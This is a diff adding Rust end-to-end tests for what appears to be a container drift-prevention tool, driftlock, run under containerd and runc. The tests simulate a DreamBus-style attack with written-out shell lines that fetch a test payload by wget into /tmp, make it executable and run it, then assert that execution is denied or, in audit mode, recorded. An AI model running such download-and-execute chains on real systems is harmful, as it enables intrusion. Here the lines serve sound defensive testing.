@@ -1,0 +1,317 @@
+//! End-to-end with the real components (issue 3): containerd 1.6 and runc through
+//! driftlock-runtime, the DreamBus attack inside a container, every container filesystem
+//! covered, audit mode by annotation, fail-closed creation, re-arm after a daemon crash.
+
+use std::fs;
+use std::process::Command;
+use std::time::{Duration, Instant};
+
+use crate::node::*;
+use crate::support::BIN;
+
+fn sha256_of_payload() -> String {
+    hex::encode(<sha2::Sha256 as sha2::Digest>::digest(
+        fs::read(payload_path()).unwrap(),
+    ))
+}
+
+#[test]
+fn dreambus_payload_fetched_into_tmp_is_denied_under_containerd() {
+    let Some(node) = Node::new("dreambus") else {
+        return;
+    };
+    let script = format!(
+        "echo image-ok; wget -q -O /tmp/kdevtmpfsi {} && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi; echo payload=$?; ls / >/dev/null; echo ls=$?",
+        node.payload_url()
+    );
+    let out = node.run(
+        BUSYBOX,
+        "web-1",
+        &[
+            "--annotation",
+            "io.kubernetes.cri.image-name=docker.io/library/busybox:1.36",
+        ],
+        &script,
+    );
+    let t = text(&out);
+    assert!(out.status.success(), "{t}");
+    assert!(t.contains("image-ok"), "{t}");
+    assert!(t.contains("Operation not permitted"), "{t}");
+    assert!(t.contains("payload=126"), "{t}");
+    assert!(t.contains("ls=0"), "image binaries keep working: {t}");
+
+    let recs = node.records(1);
+    assert_eq!(recs.len(), 1, "{recs:?}");
+    let r = &recs[0];
+    assert_eq!(r["unit"], "web-1");
+    assert_eq!(r["verdict"], "deny");
+    assert_eq!(r["path"], "/tmp/kdevtmpfsi");
+    assert_eq!(r["image_name"], "docker.io/library/busybox:1.36");
+    assert!(
+        r["image_key"]
+            .as_str()
+            .unwrap()
+            .starts_with("overlay-lower:"),
+        "{r}"
+    );
+    assert_eq!(r["sha256"], sha256_of_payload().as_str());
+    let chain = r["chain"].as_array().unwrap();
+    assert!(
+        chain.iter().all(|p| p["comm"] == "sh"),
+        "the chain stays inside the container: {r}"
+    );
+    // The container is gone (poststop disarmed it).
+    assert!(node.status()["units"].as_array().unwrap().is_empty());
+}
+
+#[test]
+fn every_container_filesystem_is_covered() {
+    let Some(node) = Node::new("coverage") else {
+        return;
+    };
+    let vol = node.dir.join("vol");
+    let mount = format!("type=bind,src={},dst=/data,options=rbind:rw", vol.display());
+    let script = format!(
+        "wget -q -O /p.src {url}; chmod +x /p.src; \
+         for d in /run /dev /dev/shm /data /usr/local/bin; do mkdir -p $d; cp /p.src $d/p; $d/p >/dev/null 2>&1; echo \"$d=$?\"; done; \
+         hello-dyn; echo hello=$?; cat /p.src > /usr/bin/hello-dyn; hello-dyn >/dev/null 2>&1; echo modified=$?; \
+         cp /bin/busybox /tmp/busybox; /tmp/busybox true; echo copy=$?",
+        url = node.payload_url()
+    );
+    let out = node.run(GLIBC, "cov-1", &["--mount", &mount], &script);
+    let t = text(&out);
+    for place in ["/run", "/dev", "/dev/shm", "/data", "/usr/local/bin"] {
+        assert!(
+            t.contains(&format!("{place}=126")),
+            "payload in {place} must be denied: {t}"
+        );
+    }
+    assert!(
+        t.contains("hello=0"),
+        "a dynamically linked image program runs: {t}"
+    );
+    assert!(
+        t.contains("modified=126"),
+        "a modified image binary is denied: {t}"
+    );
+    assert!(t.contains("copy=0"), "a copy of an image binary runs: {t}");
+    // The same payload on the host side of the volume is not gated.
+    assert_eq!(
+        Command::new(vol.join("p")).status().unwrap().code(),
+        Some(0)
+    );
+    // /dev/shm is mounted noexec by runc's default spec: the kernel refuses that exec before
+    // any event, so it has no record.
+    let recs = node.records(5);
+    let paths: Vec<&str> = recs.iter().map(|r| r["path"].as_str().unwrap()).collect();
+    for p in [
+        "/run/p",
+        "/dev/p",
+        "/data/p",
+        "/usr/local/bin/p",
+        "/usr/bin/hello-dyn",
+    ] {
+        assert!(paths.contains(&p), "{p} not recorded: {paths:?}");
+    }
+}
+
+#[test]
+fn audit_annotation_runs_the_payload_and_records_would_deny() {
+    let Some(node) = Node::new("audit-annotation") else {
+        return;
+    };
+    let script = format!(
+        "wget -q -O /tmp/p {} && chmod +x /tmp/p && /tmp/p; echo payload=$?",
+        node.payload_url()
+    );
+    let out = node.run(
+        BUSYBOX,
+        "aud-1",
+        &["--annotation", "driftlock.io/mode=audit"],
+        &script,
+    );
+    let t = text(&out);
+    assert!(
+        t.contains("payload ran") && t.contains("payload=0"),
+        "audit mode never blocks: {t}"
+    );
+    let recs = node.records(1);
+    assert_eq!(recs[0]["verdict"], "would-deny");
+    assert_eq!(recs[0]["mode"], "audit");
+    assert_eq!(recs[0]["unit"], "aud-1");
+}
+
+#[test]
+fn fileless_exec_fails_inside_the_container_only() {
+    let Some(node) = Node::new("memfd") else {
+        return;
+    };
+    let before = fs::read_to_string("/proc/sys/vm/memfd_noexec").unwrap();
+    let out = node.run(
+        GLIBC,
+        "mem-1",
+        &[],
+        "cat /proc/sys/vm/memfd_noexec; memfd-exec; echo memfd=$?",
+    );
+    let t = text(&out);
+    assert!(
+        t.starts_with('2'),
+        "vm.memfd_noexec=2 in the container: {t}"
+    );
+    assert!(
+        t.contains("memfd=3") || t.contains("memfd=4"),
+        "memfd exec must fail: {t}"
+    );
+    assert_eq!(
+        fs::read_to_string("/proc/sys/vm/memfd_noexec").unwrap(),
+        before,
+        "the host keeps its value"
+    );
+}
+
+#[test]
+fn daemon_down_at_container_start_fails_creation_with_the_hooks_message() {
+    let Some(mut node) = Node::new("fail-closed") else {
+        return;
+    };
+    node.kill_daemon();
+    let started = Instant::now();
+    let out = node.run(BUSYBOX, "down-1", &[], "echo SHOULD-NOT-RUN");
+    let t = text(&out);
+    assert!(!out.status.success(), "{t}");
+    assert!(!t.contains("SHOULD-NOT-RUN"), "{t}");
+    assert!(
+        t.contains("driftlock: container down-1 was not armed"),
+        "{t}"
+    );
+    assert!(t.contains("cannot connect to the driftlock daemon"), "{t}");
+    assert!(started.elapsed() < Duration::from_secs(60));
+}
+
+#[test]
+fn a_restarted_daemon_protects_running_containers_again() {
+    let Some(mut node) = Node::new("restart") else {
+        return;
+    };
+    let out = node.ctr(&[
+        "run",
+        "-d",
+        "--net-host",
+        "--runc-binary",
+        RUNTIME,
+        BUSYBOX,
+        "long-1",
+        "sleep",
+        "600",
+    ]);
+    assert!(out.status.success(), "{}", text(&out));
+    wait_for("the container to be armed", Duration::from_secs(20), || {
+        node.status()["units"]
+            .as_array()
+            .is_some_and(|u| u.len() == 1)
+    });
+    let exec = |node: &Node, n: u32, script: &str| {
+        node.ctr(&[
+            "tasks",
+            "exec",
+            "--exec-id",
+            &format!("e{n}"),
+            "long-1",
+            "sh",
+            "-c",
+            script,
+        ])
+    };
+    let fetch = format!(
+        "wget -q -O /tmp/p {} && chmod +x /tmp/p; /tmp/p >/dev/null 2>&1; echo rc=$?",
+        node.payload_url()
+    );
+    assert!(text(&exec(&node, 1, &fetch)).contains("rc=126"));
+
+    node.kill_daemon();
+    let t0 = Instant::now();
+    node.start_daemon();
+    let restart_to_protected = t0.elapsed();
+    let units = node.status()["units"].clone();
+    assert_eq!(
+        units.as_array().map(Vec::len),
+        Some(1),
+        "re-armed before ready: {units}"
+    );
+    assert_eq!(units[0]["id"], "long-1");
+    let t = text(&exec(
+        &node,
+        2,
+        "/tmp/p >/dev/null 2>&1; echo rc=$?; ls >/dev/null; echo ls=$?",
+    ));
+    assert!(
+        t.contains("rc=126") && t.contains("ls=0"),
+        "protected again after the restart: {t}"
+    );
+    eprintln!("restart to protected: {restart_to_protected:?}");
+    let _ = node.ctr(&["tasks", "kill", "-s", "SIGKILL", "long-1"]);
+}
+
+#[test]
+fn plain_runc_run_with_a_bundle() {
+    let Some(node) = Node::new("plain-runc") else {
+        return;
+    };
+    let bundle = node.dir.join("bundle");
+    let layout = node.dir.join("layout");
+    fs::create_dir_all(&layout).unwrap();
+    let images = images().unwrap();
+    assert!(
+        Command::new("tar")
+            .arg("-C")
+            .arg(&layout)
+            .arg("-xf")
+            .arg(images.join("busybox.tar"))
+            .status()
+            .unwrap()
+            .success()
+    );
+    let unpack = Command::new("umoci")
+        .args(["unpack", "--image"])
+        .arg(format!("{}:latest", layout.display()))
+        .arg(&bundle)
+        .output()
+        .unwrap();
+    assert!(unpack.status.success(), "{}", text(&unpack));
+    // The payload is in the rootfs without an exec bit: data, not part of the baseline.
+    let data = bundle.join("rootfs/payload.bin");
+    fs::copy(payload_path(), &data).unwrap();
+    fs::set_permissions(&data, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
+    let config_path = bundle.join("config.json");
+    let mut config: serde_json::Value =
+        serde_json::from_slice(&fs::read(&config_path).unwrap()).unwrap();
+    config["process"]["terminal"] = false.into();
+    config["process"]["args"] = serde_json::json!([
+        "sh",
+        "-c",
+        "cp /payload.bin /tmp/p; chmod +x /tmp/p; /tmp/p; echo payload=$?; echo ok"
+    ]);
+    fs::write(&config_path, serde_json::to_vec(&config).unwrap()).unwrap();
+    let out = Command::new(RUNTIME)
+        .args(["--root"])
+        .arg(node.dir.join("runc-state"))
+        .args(["run", "--bundle"])
+        .arg(&bundle)
+        .arg("plain-1")
+        .env("DRIFTLOCK_SOCKET", &node.dl_socket)
+        .env("DRIFTLOCK_BIN", BIN)
+        .output()
+        .unwrap();
+    let t = text(&out);
+    assert!(
+        t.contains("Operation not permitted") && t.contains("payload=126") && t.contains("ok"),
+        "{t}"
+    );
+    let patched: serde_json::Value =
+        serde_json::from_slice(&fs::read(&config_path).unwrap()).unwrap();
+    assert_eq!(
+        patched["hooks"]["createRuntime"][0]["args"][2],
+        "createRuntime"
+    );
+    assert_eq!(node.records(1)[0]["unit"], "plain-1");
+}
